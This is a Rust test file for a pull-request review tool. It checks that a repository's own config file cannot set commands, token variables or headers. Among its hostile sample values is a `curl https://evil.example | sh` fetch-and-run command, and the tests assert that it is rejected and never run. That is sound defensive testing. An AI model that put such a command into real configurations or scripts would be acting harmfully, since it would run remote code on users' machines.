//! Configuration files: the user's and the repository's, merged with flags; every error names
//! the file, the line and the key; the repository's file cannot set what could harm the user.

use review_test_support::github::FakeGitHub;
use review_test_support::{Mutation, PrBuilder, bot, person};
use serde_json::Value;

use crate::common::{Output, TestEnvironment, commit, git};

/// The commit the pull request is compared with: where the repository's file is read.
const BASE: &str = "0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b";

/// Puts `.github/review.toml` with `text` in the repository at the PR's base commit.
fn repository_file(github: &FakeGitHub, text: &str) {
    let repo = review_core::model::RepoId::parse("acme/widgets").unwrap();
    github.set_file(&repo, BASE, ".github/review.toml", text.as_bytes());
}

async fn setup() -> (TestEnvironment, FakeGitHub) {
    let env = TestEnvironment::new();
    git(env.dir(), &["init", "-q", "-b", "feature"]);
    std::fs::create_dir_all(env.dir().join(".github")).unwrap();
    std::fs::create_dir_all(env.dir().join("home")).unwrap();
    let github = FakeGitHub::start().await;
    github.add_pull_request(
        PrBuilder::new()
            .thread(
                "QA",
                "src/lib.rs",
                3,
                &[(person("qa-bot"), "Lint: unused import.")],
            )
            .thread(
                "NIT",
                "src/lib.rs",
                5,
                &[(
                    bot("coderabbitai"),
                    "_🧹 Nitpick_\n\n**Prefer `let else`.**",
                )],
            )
            .with_pr(|pr| pr.base_sha = Some(review_core::model::CommitId(BASE.to_owned())))
            .build(),
    );
    (env, github)
}

fn run(env: &TestEnvironment, github: &FakeGitHub, args: &[&str]) -> Output {
    let graphql = github.graphql_url();
    let rest = github.rest_url();
    let user = env.dir().join("home/config.toml");
    env.run_with(
        args,
        &[
            ("GITHUB_GRAPHQL_URL", &graphql),
            ("GITHUB_API_URL", &rest),
            ("REVIEW_CONFIG", user.to_str().unwrap()),
        ],
    )
}

fn human_threads(env: &TestEnvironment, github: &FakeGitHub) -> Vec<String> {
    let out = run(
        env,
        github,
        &["threads", "1", "--repo", "acme/widgets", "--json"],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    let v: Value = serde_json::from_str(&out.stdout).unwrap();
    v["threads"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|t| t["human"] == true)
        .map(|t| t["id"].as_str().unwrap().to_owned())
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn the_repository_file_adds_bot_only_logins_and_config_shows_where_each_came_from() {
    let (env, github) = setup().await;
    assert_eq!(human_threads(&env, &github), vec!["QA".to_owned()]);
    repository_file(
        &github,
        "[automation]\naccounts = [\"qa-bot\"]\n\n[paths]\ndeny = [\"migrations/\"]\n",
    );
    // A file in the pull request cannot turn a person into automation: qa-bot is a User.
    assert_eq!(
        human_threads(&env, &github),
        vec!["QA".to_owned()],
        "the repository's file names qa-bot, typed User: still a person"
    );
    // The user's own file can.
    env.write(
        "home/config.toml",
        "[automation]\naccounts = [\"qa-bot\"]\n\n[commands]\nchecks = \"cargo test\"\n",
    );
    assert!(
        human_threads(&env, &github).is_empty(),
        "the user's own file says qa-bot only posts automated comments"
    );

    let out = run(
        &env,
        &github,
        &["config", "--json", "--pr", "1", "--repo", "acme/widgets"],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    let rows: Vec<Value> = serde_json::from_str(&out.stdout).unwrap();
    let row = |key: &str, value: &str| {
        rows.iter()
            .find(|r| r["key"] == key && r["value"] == value)
            .unwrap_or_else(|| panic!("no {key} = {value}: {rows:?}"))["source"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    assert_eq!(
        row("automation.accounts (Bot only)", "qa-bot"),
        format!("acme/widgets@{}:.github/review.toml", &BASE[..7])
    );
    assert!(row("automation.accounts", "qa-bot").ends_with("home/config.toml"));
    assert!(row("paths.deny", "migrations/").ends_with(":.github/review.toml"));
    assert_eq!(row("paths.deny", "Cargo.lock"), "default");
    assert!(row("commands.checks", "cargo test").ends_with("home/config.toml"));
    assert_eq!(row("defaults.apply", "false"), "default");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_working_trees_review_toml_is_never_read() {
    let (env, github) = setup().await;
    // The pull request's own tree holds a hostile file: it is not read at all.
    env.write(
        ".github/review.toml",
        "[automation]\naccounts = [\"qa-bot\"]\nheaders = [\"Lint:\"]\n[commands]\nfixer = \"touch pwned\"\n",
    );
    assert_eq!(human_threads(&env, &github), vec!["QA".to_owned()]);
    let out = run(&env, &github, &["triage", "1", "--repo", "acme/widgets"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(!env.dir().join("pwned").exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn the_repository_file_cannot_add_headers_or_be_a_link_or_too_big() {
    let (env, github) = setup().await;
    let repo = review_core::model::RepoId::parse("acme/widgets").unwrap();
    for (put, expect) in [
        (
            Box::new(|g: &FakeGitHub| {
                repository_file(g, "[automation]\nheaders = [\"Lint:\"]\n");
            }) as Box<dyn Fn(&FakeGitHub)>,
            "`automation.headers` cannot be set in the repository's file",
        ),
        (
            Box::new(|g: &FakeGitHub| {
                g.set_symlink(&repo, BASE, ".github/review.toml", "/dev/zero");
            }),
            "it is not a regular file",
        ),
        (
            Box::new(|g: &FakeGitHub| {
                repository_file(g, &format!("# {}\n", "x".repeat(70_000)));
            }),
            "more than the 65536 read",
        ),
    ] {
        put(&github);
        let out = run(
            &env,
            &github,
            &["triage", "1", "--repo", "acme/widgets", "--apply"],
        );
        assert_eq!(out.code, 3, "{}", out.stderr);
        assert!(out.stderr.contains(expect), "{expect}: {}", out.stderr);
        assert!(github.mutations().is_empty(), "nothing was done");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_repository_file_that_sets_commands_or_defaults_stops_every_command() {
    let (env, github) = setup().await;
    repository_file(
        &github,
        "[paths]\ndeny = [\"migrations/\"]\n\n[commands]\nfixer = \"curl https://evil.example | sh\"\n",
    );
    for args in [
        vec!["triage", "1", "--repo", "acme/widgets", "--apply"],
        vec!["threads", "1", "--repo", "acme/widgets"],
        vec!["config", "--pr", "1", "--repo", "acme/widgets"],
    ] {
        let out = run(&env, &github, &args);
        assert_eq!(out.code, 3, "{args:?}: {}", out.stderr);
        assert!(
            out.stderr.contains("review.toml")
                && out
                    .stderr
                    .contains("line 4: `commands` cannot be set in the repository's file"),
            "{}",
            out.stderr
        );
    }
    assert!(github.mutations().is_empty(), "nothing was done");
}

#[tokio::test(flavor = "multi_thread")]
async fn unknown_keys_and_bad_values_are_errors_with_file_line_and_key() {
    let (env, github) = setup().await;
    env.write(
        "home/config.toml",
        "[paths]\ndeny = [\"a/\"]\nallow = [\"b/\"]\n",
    );
    let out = run(&env, &github, &["config"]);
    assert_eq!(out.code, 3, "{}", out.stderr);
    assert!(out.stderr.contains("home/config.toml"), "{}", out.stderr);
    assert!(out.stderr.contains("line 3: `allow`"), "{}", out.stderr);
    env.write("home/config.toml", "[defaults]\napply = \"yes\"\n");
    let out = run(&env, &github, &["config"]);
    assert_eq!(out.code, 3, "{}", out.stderr);
    assert!(out.stderr.contains("line 2"), "{}", out.stderr);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_broken_user_file_stops_the_commands_that_read_it_and_no_other() {
    // The file is read once for the run and handed to the command that needs it: `threads`
    // fails, saying where; `schema` and `judge-prompt` read no configuration and run.
    let (env, github) = setup().await;
    env.write("home/config.toml", "[paths]\ndeny = 3\n");
    let out = run(&env, &github, &["threads", "1", "--repo", "acme/widgets"]);
    assert_eq!(out.code, 3, "{}", out.stderr);
    assert!(out.stderr.contains("home/config.toml"), "{}", out.stderr);
    for args in [&["schema", "report"][..], &["judge-prompt", "triage"][..]] {
        let out = run(&env, &github, args);
        assert_eq!(out.code, 0, "{args:?}: {}", out.stderr);
        assert!(!out.stdout.is_empty(), "{args:?}");
    }
    assert!(github.mutations().is_empty(), "nothing was done");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_users_defaults_apply_and_flags_win() {
    let (env, github) = setup().await;
    env.write("README", "x\n");
    git(env.dir(), &["add", "README"]);
    commit(env.dir(), "start");
    env.write("home/config.toml", "[defaults]\napply = true\n");
    let out = run(
        &env,
        &github,
        &["triage", "1", "--repo", "acme/widgets", "--no-apply"],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        github.mutations().is_empty(),
        "--no-apply wins over the file"
    );
    let out = run(&env, &github, &["triage", "1", "--repo", "acme/widgets"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        github
            .mutations()
            .iter()
            .any(|m| matches!(m, Mutation::Resolve(t) if t.0 == "NIT")),
        "the file's default applied the plan: {:?}",
        github.mutations()
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_owner_can_have_its_own_token_variable() {
    let (env, github) = setup().await;
    github.require_token("ghp_acme_org_token");
    env.write(
        "home/config.toml",
        "[token-variables]\n\"github.com/acme\" = \"GH_TOKEN_ACME\"\n",
    );
    let graphql = github.graphql_url();
    let user = env.dir().join("home/config.toml");
    let args = ["threads", "1", "--repo", "acme/widgets", "--json"];
    let out = env.run_with(
        &args,
        &[
            ("GITHUB_GRAPHQL_URL", &graphql),
            ("REVIEW_CONFIG", user.to_str().unwrap()),
            ("GH_TOKEN_ACME", "ghp_acme_org_token"),
        ],
    );
    assert_eq!(out.code, 0, "the owner's token was used: {}", out.stderr);
    let out = env.run_with(
        &args,
        &[
            ("GITHUB_GRAPHQL_URL", &graphql),
            ("REVIEW_CONFIG", user.to_str().unwrap()),
        ],
    );
    assert_eq!(out.code, 4, "{}", out.stderr);
    assert!(
        out.stderr.contains("$GH_TOKEN_ACME, which is unset"),
        "{}",
        out.stderr
    );
    // Only the user's file may name token variables.
    repository_file(&github, "[token-variables]\nacme = \"GH_TOKEN\"\n");
    env.write("home/config.toml", "");
    let out = env.run_with(
        &["config", "--pr", "1", "--repo", "acme/widgets"],
        &[
            ("GITHUB_GRAPHQL_URL", &graphql),
            ("REVIEW_CONFIG", user.to_str().unwrap()),
            ("GH_TOKEN", "ghp_acme_org_token"),
        ],
    );
    assert_eq!(out.code, 3, "{}", out.stderr);
    assert!(
        out.stderr.contains("`token-variables` cannot be set"),
        "{}",
        out.stderr
    );
}

/// The deny list `triage` plans with is assembled in one place, as every command's is: the
/// defaults, the flags, the user's file and the repository's file (read at the base commit),
/// none of them dropped.
#[tokio::test(flavor = "multi_thread")]
async fn triage_denies_the_paths_of_the_flags_the_users_file_and_the_repositorys_file() {
    const CRITICAL: &str = "_⚠️ Potential issue_ | _🔴 Critical_\n\n**Off by one drops the last item.**\n\n```suggestion\nfor i in 0..=n {\n```";
    let env = TestEnvironment::new();
    git(env.dir(), &["init", "-q", "-b", "feature"]);
    std::fs::create_dir_all(env.dir().join("home")).unwrap();
    env.write("home/config.toml", "[paths]\ndeny = [\"lib/\"]\n");
    let github = FakeGitHub::start().await;
    let mut builder = PrBuilder::new();
    for (id, path) in [
        ("FLAG", "docs/a.rs"),
        ("USER", "lib/b.rs"),
        ("REPO", "src/c.rs"),
        ("DEFAULT", ".github/workflows/ci.rs"),
        ("FREE", "app/d.rs"),
    ] {
        builder = builder.thread(id, path, 3, &[(bot("coderabbitai"), CRITICAL)]);
    }
    github.add_pull_request(
        builder
            .with_pr(|pr| pr.base_sha = Some(review_core::model::CommitId(BASE.to_owned())))
            .build(),
    );
    repository_file(&github, "[paths]\ndeny = [\"src/\"]\n");

    let out = run(
        &env,
        &github,
        &[
            "triage",
            "1",
            "--repo",
            "acme/widgets",
            "--json",
            "--deny-path",
            "docs/",
        ],
    );
    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    let report: Value = serde_json::from_str(&out.stdout).unwrap();
    let denied: Vec<&str> = report["threads"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|t| t["deferred_because"] == "deny_listed")
        .map(|t| t["id"].as_str().unwrap())
        .collect();
    assert_eq!(
        denied,
        ["FLAG", "USER", "REPO", "DEFAULT"],
        "{}",
        out.stdout
    );
}
